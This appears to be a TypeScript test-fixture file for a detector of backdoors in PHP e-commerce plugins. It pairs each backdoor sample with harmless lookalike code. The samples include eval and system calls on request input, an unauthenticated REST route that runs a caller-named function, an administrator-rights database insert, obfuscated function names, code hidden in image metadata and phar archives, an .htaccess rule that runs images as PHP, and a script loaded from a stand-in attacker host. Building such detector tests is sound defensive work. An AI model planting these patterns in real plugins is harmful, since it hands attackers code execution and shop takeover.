import { type FlowSample, phpFlow as php } from "./flow-sample.ts";

/** Backdoors as attackers write them into plugins of the PHP shops, each beside honest code that looks like it. */
export const phpAttackSamples: readonly FlowSample[] = [
  php(
    "a REST route that calls what it is told",
    "call-received",
    "a:2",
    [
      "register_rest_route('pay/v1', '/sync', ['callback' => 'pay_sync', 'permission_callback' => '__return_true']);\nfunction pay_sync($request) { $f = $request->get_param('f'); return $f($request['x']); }",
    ],
    [
      "register_rest_route('pay/v1', '/sync', ['callback' => 'pay_sync', 'permission_callback' => 'pay_may']);\nfunction pay_sync($request) { $f = $request->get_param('f'); return pay_do($f); }",
    ],
  ),
  php(
    "a REST route with a shell",
    "process-received",
    "a:1",
    ["function pay_sync($request) { return system($request->get_param('c')); }"],
    ["function pay_sync($request) { return sanitize($request->get_param('c')); }"],
  ),
  php(
    "PrestaShop's request",
    "eval-hidden",
    "a:1",
    ["class PayFront { function postProcess() { eval(Tools::getValue('c')); } }"],
    ["class PayFront { function postProcess() { show(Tools::getValue('c')); } }"],
  ),
  php(
    "Magento's request",
    "process-received",
    "a:1",
    ["class Pay { function execute() { passthru($this->getRequest()->getParam('c')); } }"],
    ["class Pay { function execute() { return $this->load($this->getRequest()->getParam('c')); } }"],
  ),
  php(
    "any option",
    "account-takeover",
    "a:1",
    ["function pay_set($r) { update_option($r->get_param('name'), $r->get_param('value')); }"],
    ["function pay_set($r) { update_option('pay_' . $r->get_param('name'), $r->get_param('value')); }"],
  ),
  php(
    "the right to everything, by hand",
    "account-takeover",
    "a:1",
    [
      "$wpdb->insert($wpdb->usermeta, ['meta_key' => 'wp_capabilities', 'meta_value' => serialize(['administrator' => 1])]);",
    ],
    ["$wpdb->insert($wpdb->usermeta, ['meta_key' => 'pay_capabilities', 'meta_value' => serialize(['cards' => 1])]);"],
  ),
  php(
    "code in the notes of a picture",
    "eval-hidden",
    "a:1",
    ["$e = exif_read_data('logo.jpg'); eval($e['COMMENT']);"],
    ["$e = exif_read_data('logo.jpg'); show($e['COMMENT']);"],
  ),
  php(
    "names in the notes of a picture",
    "call-received",
    "a:1",
    ["$e = exif_read_data('logo.jpg'); $f = $e['Make']; $f($e['Model']);"],
    ["$e = exif_read_data('logo.jpg'); $f = 'show_' . $e['Make']; show($f, $e['Model']);"],
  ),
  php(
    "an archive in a picture",
    "remote-code",
    "a:1",
    ["include 'phar://' . __DIR__ . '/logo.jpg/x.php';"],
    ["include __DIR__ . '/phar/logo.php';"],
  ),
  php(
    "a filter before what is included",
    "remote-code",
    "a:1",
    ["$p = 'php' . '://filter/'; include $p . 'convert.base64-decode/resource=' . $file;"],
    ["$p = 'php' . '/filter/'; include $p . 'convert-' . $file . '.php';"],
  ),
  php(
    "a file of this moment",
    "include-received",
    "a:1",
    ["$t = tempnam('/x', 'y'); put($t, $code); include $t;"],
    ["$t = tempnam('/x', 'y'); put($t, $code); send($t);"],
  ),
  php("a header", "eval-hidden", "a:1", ["eval($_SERVER['HTTP_X_CODE']);"], ["show($_SERVER['HTTP_X_CODE']);"]),
  php(
    "a path of the server",
    "include-received",
    "a:1",
    ["include $_SERVER['HTTP_X_FILE'];"],
    ["include $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';"],
  ),
  php(
    "pieces of a list in one text",
    "call-hidden",
    "a:1",
    ["$f = explode('|', 'sys|tem'); call_user_func($f[0] . $f[1], 'id');"],
    ["$f = explode('|', 'str|len'); call_user_func($f[0] . $f[1], 'id');"],
  ),
  php(
    "a part of a text",
    "call-hidden",
    "a:1",
    ["$f = substr('ecosystems', 3, 6); $f('id');"],
    ["$f = substr('ecosystems', 0, 3); $f('id');"],
  ),
  php(
    "letters that are laid over each other",
    "call-hidden",
    "a:1",
    ["$f = ('!' ^ '@') . 'ssert'; $f($code);"],
    ["$f = ($a ^ 3) . ' items'; show($f);"],
  ),
  php(
    "letters that are turned over",
    "call-received",
    "a:1",
    ["$f = ~$bytes; $f('id');"],
    ["$mask = ~$bits; $f = 'show'; $f($mask);"],
  ),
  php(
    "letters that a loop lays over each other",
    "call-received",
    "a:1",
    ["$o = ''; for ($i = 0; $i < 6; $i++) { $o .= $s[$i] ^ $k[$i]; } $o('id');"],
    ["$o = 0; for ($i = 0; $i < 6; $i++) { $o .= $s[$i] ^ $k[$i]; } show($o);"],
  ),
  php(
    "a filter with its old switch",
    "eval",
    "a:1",
    ["mb_ereg_replace('.*', $code, '', 'e');"],
    ["mb_ereg_replace('.*', $code, '', 'i');"],
  ),
  php(
    "a closure of a name",
    "call-received",
    "a:1",
    ["$f = Closure::fromCallable($_GET['f']); $f($_GET['x']);"],
    ["$f = Closure::fromCallable('show'); $f($_GET['x']);"],
  ),
  php(
    "an iterator that filters",
    "process",
    "a:1",
    ["new CallbackFilterIterator($list, 'system');"],
    ["new CallbackFilterIterator($list, 'strlen');"],
  ),
  php(
    "functions of C",
    "process",
    "a:1",
    ["$c = FFI::cdef('int system(const char *c);'); $c->system('id');"],
    ["$c = Fee::cdef('int'); $c->total('id');"],
  ),
  php(
    "a library before every other",
    "shell-phrase",
    "a:1",
    ["putenv('LD_PRELOAD=' . __DIR__ . '/x.so');"],
    ["putenv('LANG=' . $locale);"],
  ),
  {
    title: "PHP in a Smarty template",
    rule: "code-disguised",
    at: "views/pay.tpl:2",
    bad: { "views/pay.tpl": "<p>\n{php}run();{/php}</p>\n" },
    good: { "views/pay.tpl": "<p>\n{l s='Run php (now)' mod='pay'}</p>\n" },
  },
  {
    title: "a function in a Smarty template",
    rule: "code-disguised",
    at: "views/pay.tpl:1",
    bad: { "views/pay.tpl": "{$order.id}{'id'|system}\n" },
    good: {
      "views/pay.tpl":
        "{$order.system|escape:'html'} {* {system('id')} *}{literal}<script>f={exec(a)};</script>{/literal}{ exec(b) }\n",
    },
  },
  {
    title: "a template that is a picture",
    rule: "include-disguised",
    at: "view/frontend/layout/checkout_index_index.xml:1",
    bad: {
      "view/frontend/layout/checkout_index_index.xml":
        '<page><block class="T" template="Pay_Shop::../../../pub/media/x.jpg"/></page>\n',
    },
    good: {
      "view/frontend/layout/checkout_index_index.xml": '<page><block class="T" template="Pay_Shop::x.phtml"/></page>\n',
    },
  },
  {
    title: "a layout with somebody's script",
    rule: "script-elsewhere",
    at: "view/frontend/layout/default.xml:1",
    bad: {
      "view/frontend/layout/default.xml":
        '<page><head><script src="//stat.evil-cdn.net/a.js" src_type="url"/></head></page>\n',
    },
    good: {
      "view/frontend/layout/default.xml":
        '<page><head><script src="https://api.pay.example/a.js" src_type="url"/><script src="Pay_Shop::a.js"/></head></page>\n',
    },
  },
  {
    title: "a server's setting over two lines",
    rule: "server-config",
    at: "files/.htaccess:2",
    bad: { "files/.htaccess": '<FilesMatch "\\.jpg$">\n  sethandler \\\n   application/x-httpd-php\n</FilesMatch>\n' },
    good: { "files/.htaccess": "Options \\\n  -Indexes\nDeny from all\n" },
  },
  {
    title: "PHP by one of its rarer suffixes",
    rule: "eval-hidden",
    at: "lib/x.pht:1",
    bad: { "lib/x.pht": "<?php assert($_POST['x']);\n" },
    good: { "lib/x.pht": "<?php show($_POST['x']);\n" },
  },
];
